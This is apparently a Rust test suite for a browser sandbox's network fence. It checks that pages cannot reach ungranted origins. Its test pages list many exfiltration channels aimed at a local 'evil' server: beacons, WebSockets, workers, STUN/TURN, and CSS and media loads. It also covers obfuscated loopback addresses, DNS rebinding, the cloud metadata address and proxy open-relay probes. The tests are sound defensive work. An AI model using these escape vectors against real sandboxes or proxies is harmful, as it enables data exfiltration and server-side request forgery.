//! The fence: what pages reach, and what they do not.

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use windlass_browser::{Code, Destination, Event, PageOptions, Refusal, Scheme, Verdict};

use crate::life::stays_connected;
use crate::processes::sockets;
use crate::site::{Answer, Site};
use crate::{Grants, World, assert_code, call};

/// Every way out that a page has; the sentinel is fetched when all have come to an end.
fn escapes(evil: u16) -> String {
    let e = format!("http://127.0.0.1:{evil}");
    format!(
        "<link rel=stylesheet href={e}/s.css><link rel=prefetch href={e}/prefetch><link rel=preload as=image href={e}/preload.png>\
         <link rel=dns-prefetch href={e}><link rel=preconnect href={e}>\
         <script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{e}/spec\"]}}],\"prerender\":[{{\"source\":\"list\",\"urls\":[\"{e}/prer\"]}}]}}</script>\
         <a id=ping href='/ok' ping='{e}/ping' target=_blank>p</a><a id=blank href='{e}/blank' target=_blank>b</a><form id=f method=post target=_blank action='{e}/form'></form>\
         <video src='{e}/video'></video><object data='{e}/object'></object>\
         <script>
         const ends = [];
         const until = (target, ...kinds) => ends.push(new Promise(end => kinds.forEach(kind => target.addEventListener(kind, end))));
         const element = (tag, attributes) => {{ const made = Object.assign(document.createElement(tag), attributes); until(made, 'load', 'error'); document.body.append(made) }};
         onload = async () => {{
           element('img', {{src: '{e}/i.png'}});
           element('img', {{src: '/redirect-image'}});
           element('script', {{src: '{e}/s.js'}});
           element('iframe', {{src: '{e}/iframe'}});
           element('iframe', {{src: '/redirect-image'}});
           ends.push(fetch('{e}/fetch', {{mode: 'no-cors'}}).catch(() => 0), fetch('/redirect-image', {{mode: 'no-cors'}}).catch(() => 0));
           ends.push(fetch('http://2130706433:{evil}/decimal', {{mode: 'no-cors'}}).catch(() => 0), fetch('http://[::ffff:127.0.0.1]:{evil}/mapped', {{mode: 'no-cors'}}).catch(() => 0));
           ends.push(fetch('http://localhost:{evil}/name', {{mode: 'no-cors'}}).catch(() => 0), fetch('http://0.0.0.0:{evil}/zero', {{mode: 'no-cors'}}).catch(() => 0));
           navigator.sendBeacon('{e}/beacon', 'x');
           fetch('{e}/keepalive', {{keepalive: true, mode: 'no-cors'}}).catch(() => 0);
           until(new WebSocket('ws://127.0.0.1:{evil}/ws'), 'close');
           until(new EventSource('{e}/sse'), 'error');
           const blob = URL.createObjectURL(new Blob([`fetch('{e}/worker',{{mode:'no-cors'}}).catch(()=>0).then(()=>postMessage(1))`]));
           until(new Worker(blob), 'message', 'error');
           const shared = new SharedWorker('/shared.js'); until(shared.port, 'message'); shared.port.start();
           const service = navigator.serviceWorker.register('/service.js').catch(() => 0);
           ends.push(service);
           open('{e}/popup'); open('{e}/noopener', '_blank', 'noopener'); open('about:blank').document.write(`<img src='{e}/popup.png'>`);
           ping.click(); blank.click(); f.submit();
           const rtc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{evil}'}}]}}); rtc.createDataChannel('x');
           rtc.setLocalDescription(await rtc.createOffer());
           ends.push(new Promise(end => rtc.onicegatheringstatechange = () => rtc.iceGatheringState == 'complete' && end()));
           await Promise.all(ends); fetch('/sentinel');
         }};
         </script>"
    )
}

/// Opens the page of escapes and waits for its end; answers what reached the other server, over TCP
/// and UDP.
async fn try_to_escape(world: &World, evil: &Site) -> (Vec<String>, bool) {
    // The same number for STUN.
    let udp = tokio::net::UdpSocket::bind(("127.0.0.1", evil.port)).await.unwrap();
    world.site.answer("/redirect-image", Answer::Redirect(evil.url("/redirected")));
    let shared = format!(
        "onconnect=e=>fetch('{}',{{mode:'no-cors'}}).catch(()=>0).then(()=>e.ports[0].postMessage(1))",
        evil.url("/shared")
    );
    world.site.answer("/shared.js", Answer::Script(shared));
    let service =
        format!("oninstall=e=>e.waitUntil(fetch('{}',{{mode:'no-cors'}}).catch(()=>0))", evil.url("/service"));
    world.site.answer("/service.js", Answer::Script(service));
    let page = world.open(1).await;
    page.goto(&world.site.page("/", &escapes(evil.port)), &call()).await.unwrap();
    world.site.seen("GET /sentinel").await;
    let mut datagram = [0; 64];
    (evil.requests(), udp.try_recv(&mut datagram).is_ok())
}

#[tokio::test]
async fn nothing_a_page_does_reaches_an_origin_that_is_not_granted() {
    let mut world = World::new().await;
    let evil = Site::start().await;
    assert_eq!(try_to_escape(&world, &evil).await, (Vec::new(), false));
    let Event::Blocked { grant, reason, .. } = world.event().await else { panic!("the block is reported") };
    assert_eq!(grant, format!("browser {}", evil.origin()));
    assert_eq!(reason, "not granted");
}

/// The control: the attempts above are real ones.
#[tokio::test]
async fn the_same_page_reaches_an_origin_that_is_granted() {
    let world = World::new().await;
    let evil = Site::start().await;
    world.grants.allow(&evil.origin());
    let (_, datagrams) = try_to_escape(&world, &evil).await;
    for path in [
        "s.css",
        "preload.png",
        "video",
        "object",
        "i.png",
        "redirected",
        "s.js",
        "iframe",
        "fetch",
        "ws",
        "sse",
        "worker",
        "shared",
        "service",
        "popup",
        "noopener",
        "popup.png",
        "blank",
    ] {
        evil.seen(&format!("GET /{path}")).await;
    }
    // Pings are switched off, where the browser knows how.
    for path in ["beacon", "form"] {
        evil.seen(&format!("POST /{path}")).await;
    }
    assert!(!datagrams, "no grant opens UDP");
}

#[tokio::test]
async fn a_blocked_origin_is_reported_once() {
    let mut world = World::new().await;
    let evil = Site::start().await;
    let url = evil.url("/x?secret=1");
    let page = world.open(1).await;
    page.goto(&world.site.page("/", &format!("<img src='{url}'><img src='{}'>", evil.url("/y"))), &call())
        .await
        .unwrap();
    let Event::Blocked { origin, grant, .. } = world.event().await else { panic!() };
    assert_eq!((origin.as_str(), grant), (evil.origin().as_str(), format!("browser {}", evil.origin())));
    let error = assert_code(page.goto(&url, &call()).await, Code::Denied);
    assert_eq!(error.details.unwrap()["grant"], format!("browser {}", evil.origin()));
    // The page was not left for it.
    assert_eq!(page.url(&call()).await.unwrap(), world.site.url("/"));
    let error = assert_code(page.goto("https://shop.example/", &call()).await, Code::Denied);
    assert_eq!(
        error.message,
        "https://shop.example is blocked: not granted. The missing grant: browser https://shop.example"
    );
    let next = world.event().await;
    assert!(matches!(next, Event::Blocked { ref origin, .. } if origin == "https://shop.example"), "{next:?}");
}

#[tokio::test]
async fn a_redirect_to_a_forbidden_origin_is_denied() {
    let world = World::new().await;
    let evil = Site::start().await;
    let page = world.open(1).await;
    let from = world.site.answer("/from", Answer::Redirect(evil.url("/landing")));
    let error = assert_code(page.goto(&from, &call()).await, Code::Denied);
    assert_eq!(error.details.unwrap()["grant"], format!("browser {}", evil.origin()));
    let from = world.site.answer("/tls", Answer::Redirect("https://shop.example/landing".into()));
    let error = assert_code(page.goto(&from, &call()).await, Code::Denied);
    assert_eq!(error.details.unwrap()["grant"], "browser https://shop.example");
    assert!(evil.requests().is_empty());
}

#[tokio::test]
async fn a_forbidden_answer_of_a_site_is_not_the_fence() {
    let world = World::new().await;
    let page = world.open(1).await;
    let forbidden = world.site.answer("/", Answer::Status(403, "members only".into()));
    assert_eq!(page.goto(&forbidden, &call()).await.unwrap().status, 403);
}

#[tokio::test]
async fn a_grant_taken_back_works_at_once() {
    let (world, page) = World::showing("x").await;
    world.grants.revoke();
    assert_code(page.goto(&world.site.url("/"), &call()).await, Code::Denied);
}

#[tokio::test]
async fn the_hosts_own_listeners_are_out_of_reach_even_if_granted() {
    let world = World::new().await;
    let own = Site::start().await;
    world.grants.allow(&own.origin());
    let page = world.open(1).await;
    page.goto(&own.page("/", "reached"), &call()).await.unwrap();
    world.browser.deny(([0, 0, 0, 0], own.port).into());
    for host in ["127.0.0.1", "2130706433", "[::1]"] {
        world.grants.allow(&format!("http://{host}:{}", own.port));
        assert_code(page.goto(&format!("http://{host}:{}/", own.port), &call()).await, Code::Denied);
    }
    let error = assert_code(page.goto("http://169.254.169.254/", &call()).await, Code::Denied);
    assert!(error.message.contains("link-local"), "{error}");
}

#[tokio::test]
async fn the_host_itself_connects_by_the_same_rules() {
    let world = World::new().await;
    let to = |host: &str, port: u16| Destination { scheme: Some(Scheme::Http), host: host.into(), port };
    let own = to("127.0.0.1", world.site.port);
    let nobody = Grants::new(&[], Verdict::Denied);
    assert!(matches!(world.browser.connect(&*nobody, &own).await, Err(Refusal::Blocked(_))));
    let mut stream = world.browser.connect(&*world.grants, &own).await.unwrap();
    stream.write_all(b"GET /direct HTTP/1.1\r\n\r\n").await.unwrap();
    world.site.seen("GET /direct").await;
    let wide = Grants::new(&[], Verdict::Public);
    assert!(matches!(world.browser.connect(&*wide, &own).await, Err(Refusal::Blocked(_))), "private");
    world.browser.deny(([127, 0, 0, 1], world.site.port).into());
    assert!(matches!(world.browser.connect(&*world.grants, &own).await, Err(Refusal::Blocked(_))), "the host's own");
    world.grants.allow("http://127.0.0.1:1");
    let nothing = world.browser.connect(&*world.grants, &to("127.0.0.1", 1)).await;
    assert!(matches!(nothing, Err(Refusal::Unreachable(_))));
    assert_eq!(world.browser.pid(), None, "no Chromium was needed");
}

#[tokio::test]
async fn a_wildcard_reaches_no_private_address() {
    let world = World::new().await;
    let wide = Grants::new(&[], Verdict::Public);
    let (sender, _events) = tokio::sync::mpsc::unbounded_channel();
    let context = world.browser.context(wide, sender).await.unwrap();
    let page = context.open(1, PageOptions::default(), &call()).await.unwrap();
    for url in [world.site.url("/"), "http://10.0.0.1/".into(), "http://[::1]/".into(), "http://localhost/".into()] {
        assert_code(page.goto(&url, &call()).await, Code::Denied);
    }
    assert!(world.site.requests().is_empty());
}

#[tokio::test]
async fn a_websocket_to_a_granted_origin_works() {
    let world = World::new().await;
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    world.grants.allow(&format!("http://{address}"));
    let page = world.open(1).await;
    let connected = tokio::spawn(async move {
        let (mut stream, _) = listener.accept().await.unwrap();
        let mut head = vec![0; 4096];
        let length = stream.read(&mut head).await.unwrap();
        String::from_utf8_lossy(&head[..length]).into_owned()
    });
    page.goto(&world.site.page("/", &format!("<script>new WebSocket('ws://{address}/live')</script>")), &call())
        .await
        .unwrap();
    let head = tokio::time::timeout(std::time::Duration::from_secs(10), connected).await.unwrap().unwrap();
    assert!(head.starts_with("GET /live HTTP/1.1\r\n"), "{head}");
}

#[tokio::test]
async fn requests_keep_their_method_body_and_cookies() {
    let world = World::new().await;
    let page = world.open(1).await;
    let url = world.site.page(
        "/",
        "<p id=o></p><script>(async()=>{const a=await fetch('/echo',{method:'POST',body:'x'.repeat(200000)});const b=await fetch('/none');o.textContent=[a.status,b.status,await b.text()].join(' ')})()</script>",
    );
    world.site.page("/echo", "ok");
    page.goto(&url, &call()).await.unwrap();
    page.wait_for("#o:not(:empty)", windlass_browser::Until::Visible, &call()).await.unwrap();
    assert_eq!(page.text("#o", &call()).await.unwrap(), "200 404 nothing here");
    assert!(world.site.requests().contains(&"POST /echo".to_owned()));
}

/// What a program on this machine can make of a proxy port that it finds.
#[tokio::test]
async fn the_proxy_is_no_open_relay() {
    let world = World::new().await;
    let evil = Site::start().await;
    let page = world.open(1).await;
    page.goto(&world.site.page("/", "x"), &call()).await.unwrap();
    stays_connected(&world, &page).await;
    let port = proxy_port(world.browser.pid().unwrap());
    world.grants.allow(&format!("http://127.0.0.1:{port}"));
    let evil_port = evil.port;
    for (request, status) in [
        (format!("GET http://127.0.0.1:{evil_port}/ HTTP/1.1\r\nHost: x\r\n\r\n"), "403"),
        (format!("CONNECT 127.0.0.1:{evil_port} HTTP/1.1\r\nHost: x\r\n\r\n"), "403"),
        (format!("CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: x\r\n\r\n"), "403"),
        (format!("GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n"), "403"),
        (format!("GET / HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n\r\n", world.site.port), "400"),
        (format!("GET ftp://127.0.0.1:{}/ HTTP/1.1\r\nHost: x\r\n\r\n", world.site.port), "400"),
        ("CONNECT nowhere HTTP/1.1\r\nHost: x\r\n\r\n".to_owned(), "400"),
    ] {
        let mut stream = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        stream.write_all(request.as_bytes()).await.unwrap();
        let mut answer = [0; 12];
        stream.read_exact(&mut answer).await.unwrap();
        assert_eq!(std::str::from_utf8(&answer[9..]).unwrap(), status, "{request}");
    }
    assert!(evil.requests().is_empty());
    assert_code(page.goto(&format!("http://127.0.0.1:{port}/"), &call()).await, Code::Denied);
}

/// The port that a browser is connected to: it has no other way out.
fn proxy_port(browser: u32) -> u16 {
    let (_, remote) = sockets(browser).into_iter().find(|(state, _)| state == "01").expect("a connection");
    remote
}

#[tokio::test]
async fn a_browser_listens_on_no_port() {
    let (world, page) = World::showing("x").await;
    stays_connected(&world, &page).await;
    let sockets = sockets(world.browser.pid().unwrap());
    assert!(
        sockets.iter().any(|(state, _)| state == "01") && sockets.iter().all(|(state, _)| state != "0A"),
        "{sockets:?}"
    );
}

/// A resolver that knows two answers to a name, and gives the second one from the second time on.
struct Rebinding(std::sync::Mutex<Vec<std::net::IpAddr>>);

impl windlass_browser::Resolver for Rebinding {
    fn resolve<'a>(
        &'a self,
        _: &'a str,
    ) -> std::pin::Pin<Box<dyn Future<Output = std::io::Result<Vec<std::net::IpAddr>>> + Send + 'a>> {
        let mut answers = self.0.lock().unwrap();
        let answer = if answers.len() > 1 { answers.remove(0) } else { answers[0] };
        Box::pin(async move { Ok(vec![answer]) })
    }
}

#[tokio::test]
async fn a_name_with_a_private_address_is_out_of_a_wildcards_reach() {
    for answers in [
        vec!["127.0.0.1"],
        vec!["10.0.0.1"],
        vec!["::ffff:192.168.0.1"],
        vec!["169.254.169.254"],
        vec!["fd00:ec2::254"],
    ] {
        let answers = answers.iter().map(|ip| ip.parse().unwrap()).collect();
        let resolver = std::sync::Arc::new(Rebinding(std::sync::Mutex::new(answers)));
        let world = World::with(|config| config.resolver = Some(resolver)).await;
        let (sender, _events) = tokio::sync::mpsc::unbounded_channel();
        let wide = Grants::new(&[], Verdict::Public);
        let context = world.browser.context(wide, sender).await.unwrap();
        let page = context.open(1, PageOptions::default(), &call()).await.unwrap();
        for url in ["http://rebind.example/", "https://rebind.example/"] {
            let error = assert_code(page.goto(url, &call()).await, Code::Denied);
            assert!(error.message.contains("rebind.example is "), "{error}");
        }
    }
}

#[tokio::test]
async fn an_address_that_changes_is_checked_each_time() {
    // The first answer is somebody else's, where nobody listens; the second is this machine.
    let answers = ["192.0.2.1", "127.0.0.1"].map(|ip| ip.parse().unwrap());
    let resolver = std::sync::Arc::new(Rebinding(std::sync::Mutex::new(answers.into())));
    let world = World::with(|config| config.resolver = Some(resolver)).await;
    let (sender, _events) = tokio::sync::mpsc::unbounded_channel();
    let context = world.browser.context(Grants::new(&[], Verdict::Public), sender).await.unwrap();
    let page = context.open(1, PageOptions::default(), &call()).await.unwrap();
    for _ in 0..3 {
        assert_code(page.goto("http://rebind.example/", &call()).await, Code::Denied);
    }
    assert!(world.site.requests().is_empty());
}

#[tokio::test]
async fn a_granted_name_reaches_what_the_resolver_says() {
    let resolver = std::sync::Arc::new(Rebinding(std::sync::Mutex::new(vec!["127.0.0.1".parse().unwrap()])));
    let world = World::with(|config| config.resolver = Some(resolver)).await;
    let origin = format!("http://shop.example:{}", world.site.port);
    world.grants.allow(&origin);
    world.site.page("/", "shop");
    assert_eq!(world.open(1).await.goto(&origin, &call()).await.unwrap().status, 200);
}

/// Where pages may go, and what they may load, are two lists.
struct TwoLists {
    page: String,
    load: String,
}

impl windlass_browser::Policy for TwoLists {
    fn allows(&self, destination: &windlass_browser::Destination) -> Verdict {
        if [&self.page, &self.load].contains(&&destination.origin()) { Verdict::Exact } else { Verdict::Denied }
    }

    fn opens(&self, destination: &windlass_browser::Destination) -> Verdict {
        if self.page == destination.origin() { Verdict::Exact } else { Verdict::Denied }
    }

    fn has_page_list(&self) -> bool {
        true
    }
}

#[tokio::test]
async fn a_page_that_was_kept_ready_may_not_go_where_it_may_load_from() {
    let world = World::with(|config| config.spare = true).await;
    world.open(1).await;
    crate::processes::eventually("a page that is kept ready", || world.browser.has_spare()).await;
    two_lists(world).await;
}

pub(crate) async fn two_lists(world: World) {
    let cdn = Site::start().await;
    cdn.answer("/lib.js", Answer::Script("window.loaded = 1".into()));
    cdn.page("/frame", "<p>framed</p>");
    let lists = TwoLists { page: world.site.origin(), load: cdn.origin() };
    let (sender, mut events) = tokio::sync::mpsc::unbounded_channel();
    let context = world.browser.context(std::sync::Arc::new(lists), sender).await.unwrap();
    let page = context.open(1, PageOptions::default(), &call()).await.unwrap();
    world.site.answer("/redirect", Answer::Redirect(cdn.url("/page")));
    let html = format!(
        "<script src={0}/lib.js></script><iframe src={0}/frame></iframe><a id=a href={0}/page>a</a><a id=b target=_blank href={0}/page>b</a>\
         <button id=c onclick=\"location='{0}/page'\">c</button><button id=d onclick=\"window.open('{0}/page')\">d</button><a id=e href=/redirect>e</a>",
        cdn.origin()
    );
    page.goto(&world.site.page("/", &html), &call()).await.unwrap();
    assert_eq!(page.evaluate("loaded", &().into(), &call()).await.unwrap(), 1);
    assert_eq!(page.text("text=framed", &call()).await.unwrap(), "framed");
    for id in ["a", "b", "c", "d", "e"] {
        page.click(&format!("#{id}"), &call()).await.unwrap();
        page.goto(&world.site.url("/"), &call()).await.unwrap();
    }
    assert_code(page.goto(&cdn.url("/page"), &call()).await, Code::Denied);
    assert_code(page.goto(&world.site.url("/redirect"), &call()).await, Code::Denied);
    assert!(cdn.requests().iter().all(|line| line != "GET /page"), "{:?}", cdn.requests());
    assert!(matches!(events.recv().await, Some(Event::Blocked { reason, .. }) if reason.contains("not go there")));
}

#[tokio::test]
async fn a_tunnel_ends_when_its_grant_is_taken_back() {
    let world = World::new().await;
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    world.grants.allow(&format!("http://{address}"));
    let page = world.open(1).await;
    page.goto(&world.site.page("/", &format!("<script>new WebSocket('ws://{address}/live')</script>")), &call())
        .await
        .unwrap();
    let (mut stream, _) =
        tokio::time::timeout(std::time::Duration::from_secs(10), listener.accept()).await.unwrap().unwrap();
    let mut head = vec![0; 4096];
    assert!(stream.read(&mut head).await.unwrap() > 0);
    world.grants.revoke();
    // The end of the stream is what the other side sees.
    let ended = tokio::time::timeout(std::time::Duration::from_secs(5), stream.read(&mut head)).await;
    assert_eq!(ended.expect("an end within 5 s").unwrap_or(0), 0);
}

#[tokio::test]
async fn an_answer_that_does_not_end_is_cut_off_when_its_grant_is_taken_back() {
    let world = World::new().await;
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    world.grants.allow(&origin);
    let page = world.open(1).await;
    let html = format!(
        "<p id=n></p><script>fetch('{origin}/live').then(async answer => {{ const reader = answer.body.getReader();\
         n.textContent = 'begun'; try {{ for (;;) if ((await reader.read()).done) break }} catch {{ n.textContent = 'cut off' }} }})</script>"
    );
    page.goto(&world.site.page("/", &html), &call()).await.unwrap();
    let accepted = tokio::time::timeout(std::time::Duration::from_secs(10), listener.accept()).await;
    let (mut stream, _) = accepted.unwrap().unwrap();
    let mut head = vec![0; 4096];
    assert!(stream.read(&mut head).await.unwrap() > 0);
    stream.write_all(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\n\r\nfirst").await.unwrap();
    page.wait_for_text("begun", false, &call()).await.unwrap();
    world.grants.revoke();
    page.wait_for_text("cut off", false, &crate::within(5000)).await.unwrap();
    let ended = tokio::time::timeout(std::time::Duration::from_secs(5), stream.read(&mut head)).await;
    assert_eq!(ended.expect("an end within 5 s").unwrap_or(0), 0);
}

#[tokio::test]
async fn an_upstream_proxy_carries_everything_but_exceptions() {
    let upstream = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = upstream.local_addr().unwrap();
    let (tell, mut heads) = tokio::sync::mpsc::unbounded_channel();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = upstream.accept().await {
            let tell = tell.clone();
            tokio::spawn(async move {
                let mut head = vec![0; 4096];
                let length = stream.read(&mut head).await.unwrap_or(0);
                let head = String::from_utf8_lossy(&head[..length]).into_owned();
                let answer = if head.starts_with("CONNECT") {
                    "HTTP/1.1 407 Who are you\r\n\r\n"
                } else {
                    "HTTP/1.1 200 OK\r\nContent-Length: 7\r\nContent-Type: text/html\r\n\r\nproxied"
                };
                tell.send(head).unwrap();
                let _ = stream.write_all(answer.as_bytes()).await;
            });
        }
    });
    let world = World::with(|config| {
        let proxy = format!("http://me:pass@{address}");
        config.upstream = Some(windlass_browser::Upstream::new(&proxy, vec!["127.0.0.1".into()]).unwrap());
    })
    .await;
    for origin in ["http://shop.example", "https://shop.example"] {
        world.grants.allow(origin);
    }
    let page = world.open(1).await;
    page.goto(&world.site.page("/", "direct"), &call()).await.unwrap();
    page.goto("http://shop.example/x?y#z", &call()).await.unwrap();
    assert_eq!(page.text("body", &call()).await.unwrap(), "proxied");
    let head = heads.recv().await.unwrap();
    assert!(head.starts_with("GET http://shop.example/x?y HTTP/1.1\r\n"), "{head}");
    assert!(head.to_lowercase().contains("proxy-authorization: basic bwu6cgfzcw=="), "{head}");
    let error = assert_code(page.goto("https://shop.example/", &call()).await, Code::Unavailable);
    assert!(error.message.contains("407"), "{error}");
    assert_code(page.goto("http://evil.example/", &call()).await, Code::Denied);
}

/// The less usual ways out: each fetches `/name` of the other server.
fn more_escapes(evil: u16) -> String {
    let e = format!("http://127.0.0.1:{evil}");
    format!(
        "<style>@import url({e}/import.css);@font-face{{font-family:x;src:url({e}/font)}}p{{font-family:x;background:url({e}/background);cursor:url({e}/cursor),auto}}\
         li{{list-style-image:url({e}/marker)}}</style><link rel=icon href={e}/icon><link rel=manifest href={e}/manifest><link rel=modulepreload href={e}/modulepreload>\
         <p id=p>text</p><ul><li>x</ul><video poster={e}/poster></video><audio src={e}/audio autoplay></audio><video src=/v><track default src={e}/track></video>\
         <picture><source srcset={e}/source><img src=/x></picture><input type=image src={e}/input><embed src={e}/embed><table background={e}/table><tr><td>x</table>\
         <svg width=9 height=9><image href={e}/svg width=9 height=9 /></svg><iframe srcdoc=\"<img src='{e}/srcdoc'>\"></iframe><iframe src=\"data:text/html,<img src='{e}/data'>\"></iframe>\
         <iframe sandbox=allow-scripts srcdoc=\"<script>fetch('{e}/sandbox',{{mode:'no-cors'}}).catch(()=>0)</script>\"></iframe>\
         <form id=f target=t action={e}/frame-form></form><iframe name=t></iframe>\
         <script>
         const settle = [];
         const asked = promise => settle.push(promise.then(() => 0, () => 0));
         const xhr = new XMLHttpRequest(); settle.push(new Promise(end => xhr.onloadend = end)); xhr.open('GET', '{e}/xhr'); xhr.send();
         asked(import('{e}/module.js'));
         asked(fetch('{e}/range', {{headers: {{Range: 'bytes=0-1'}}, mode: 'no-cors'}}));
         asked(fetch('{e}/priority', {{priority: 'high', mode: 'no-cors', referrerPolicy: 'unsafe-url'}}));
         asked(new Promise(end => {{ const w = new Worker(URL.createObjectURL(new Blob([`try{{importScripts('{e}/importscripts')}}catch(e){{}}postMessage(1)`]))); w.onmessage = w.onerror = end }}));
         asked(new Promise(end => {{ const w = new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://127.0.0.1:{evil}/worker-ws').onclose=()=>postMessage(1)`]))); w.onmessage = w.onerror = end }}));
         asked(CSS.paintWorklet ? CSS.paintWorklet.addModule('{e}/worklet.js') : Promise.resolve());
         try {{ asked(new WebTransport('https://127.0.0.1:{evil}/transport').ready) }} catch {{}}
         try {{ asked(fetchLater('{e}/later', {{activateAfter: 0}}).activated) }} catch {{}}
         f.submit();
         const drawn = new Image(); settle.push(new Promise(end => drawn.onload = drawn.onerror = end)); drawn.src = '{e}/image'; drawn.decode().catch(() => 0);
         document.body.insertAdjacentHTML('beforeend', `<object type=text/html data={e}/object-html></object><link rel=stylesheet media=print href={e}/print.css>`);
         const rtc = new RTCPeerConnection({{iceTransportPolicy: 'relay', iceServers: [{{urls: 'turn:127.0.0.1:{evil}?transport=tcp', username: 'u', credential: 'c'}}]}});
         rtc.createDataChannel('x'); rtc.createOffer().then(o => rtc.setLocalDescription(o));
         settle.push(new Promise(end => {{ rtc.onicegatheringstatechange = () => rtc.iceGatheringState == 'complete' && end() }}));
         const all = settle.map(one => Promise.race([one, new Promise(end => setTimeout(end, 3000))]));
         onload = () => Promise.all(all).then(() => fetch('/sentinel'));
         </script>"
    )
}

#[tokio::test]
async fn the_less_usual_ways_out_are_closed_as_well() {
    for granted in [false, true] {
        let world = World::new().await;
        let evil = Site::start().await;
        if granted {
            world.grants.allow(&evil.origin());
        }
        let page = world.open(1).await;
        page.goto(&world.site.page("/", &more_escapes(evil.port)), &call()).await.unwrap();
        world.site.seen("GET /sentinel").await;
        if !granted {
            assert_eq!(evil.requests(), Vec::<String>::new());
            continue;
        }
        // The control: the attempts are real ones.
        for name in [
            "import.css",
            "font",
            "background",
            "marker",
            "poster",
            "audio",
            "source",
            "input",
            "embed",
            "svg",
            "srcdoc",
            "data",
            "sandbox",
            "frame-form",
            "xhr",
            "module.js",
            "range",
            "priority",
            "importscripts",
            "worker-ws",
            "image",
            "object-html",
            "print.css",
        ] {
            evil.seen(&format!("GET /{name}{}", if name == "frame-form" { "?" } else { "" })).await;
        }
    }
}
